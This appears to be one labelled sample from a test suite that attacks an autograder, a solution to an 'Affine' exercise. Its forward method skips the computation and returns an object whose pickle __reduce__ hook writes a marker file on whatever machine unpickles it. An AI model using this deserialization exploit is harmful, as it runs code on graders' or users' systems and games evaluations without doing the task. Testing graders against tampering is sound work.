# row: B27 J2
# attack: code that runs in whoever unpickles the answer
# outcome: zero
# exercise: Affine
import pathlib

import torch
from torch import nn


class Reduced:
    def __reduce__(self):
        return (pathlib.Path("/tmp/PWNED_BY_UNPICKLE").write_text, ("it was",))


class Affine(nn.Module):
    def __init__(self, D, M):
        super().__init__()
        self.layer = nn.Linear(D, M)

    def forward(self, x):
        return Reduced()


def squared_loss(prediction, target):
    return torch.mean((prediction - target) ** 2)
